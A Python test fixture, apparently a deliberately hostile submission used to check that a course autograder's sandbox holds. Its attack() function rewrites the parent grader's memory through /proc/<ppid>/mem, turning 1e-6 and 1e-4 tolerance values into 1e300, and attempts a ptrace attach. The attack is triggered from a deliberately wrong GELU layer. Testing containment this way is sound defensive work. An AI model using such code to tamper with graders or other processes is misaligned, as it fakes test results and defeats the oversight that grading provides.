"""Writes the parent's memory through /proc/<ppid>/mem, replacing the bytes of every 1e-06 and
1e-04 it can find with 1e300, and tries ptrace(PTRACE_ATTACH) on it. Contained: the parent is
not in the sandbox's PID namespace (bwrap) or belongs to another uid (user)."""

import ctypes
import os
import struct

import numpy as np

from npgpt import Module, Parameter


def attack():
    ppid = os.getppid()
    patched = 0
    try:
        with open(f"/proc/{ppid}/maps") as f:
            regions = [ln.split() for ln in f]
        with open(f"/proc/{ppid}/mem", "r+b", buffering=0) as mem:
            for r in regions:
                if "rw" not in r[1]:
                    continue
                lo, hi = (int(v, 16) for v in r[0].split("-"))
                mem.seek(lo)
                data = mem.read(min(hi - lo, 1 << 24))
                for old in (struct.pack("d", 1e-6), struct.pack("d", 1e-4)):
                    i = data.find(old)
                    while i >= 0:
                        mem.seek(lo + i)
                        mem.write(struct.pack("d", 1e300))
                        patched += 1
                        i = data.find(old, i + 8)
        print("ATTACK patched", patched, "thresholds in the parent")
    except OSError as e:
        print("ATTACK /proc/ppid/mem refused:", type(e).__name__, e.errno)
    libc = ctypes.CDLL(None, use_errno=True)
    rc = libc.ptrace(16, ppid, None, None)  # PTRACE_ATTACH
    print("ATTACK ptrace attach:", "worked" if rc == 0 else f"refused (errno {ctypes.get_errno()})")


_done = []


def attack_once():
    if not _done:
        _done.append(1)
        attack()


class LayerNorm(Module):
    """Correct, and graded in a child of its own: it must keep its 10 points."""

    def __init__(self, emb_dim, eps=1e-5):
        super().__init__()
        self.eps = eps
        self.scale = Parameter(np.ones(emb_dim))
        self.shift = Parameter(np.zeros(emb_dim))

    def forward(self, x):
        mean = x.mean(-1, keepdims=True)
        var = ((x - mean) ** 2).mean(-1, keepdims=True)
        self.rstd = 1.0 / np.sqrt(var + self.eps)
        self.xhat = (x - mean) * self.rstd
        return self.xhat * self.scale.data + self.shift.data

    def backward(self, dout):
        C = dout.shape[-1]
        self.scale.grad += (dout * self.xhat).reshape(-1, C).sum(0)
        self.shift.grad += dout.reshape(-1, C).sum(0)
        g = dout * self.scale.data
        return self.rstd * (
            g - g.mean(-1, keepdims=True) - self.xhat * (g * self.xhat).mean(-1, keepdims=True)
        )


class GELU(Module):
    """Wrong on purpose (all zeros): full marks would mean the attack worked."""

    def forward(self, x):
        attack_once()
        return np.zeros_like(x)

    def backward(self, dout):
        return np.zeros_like(dout)
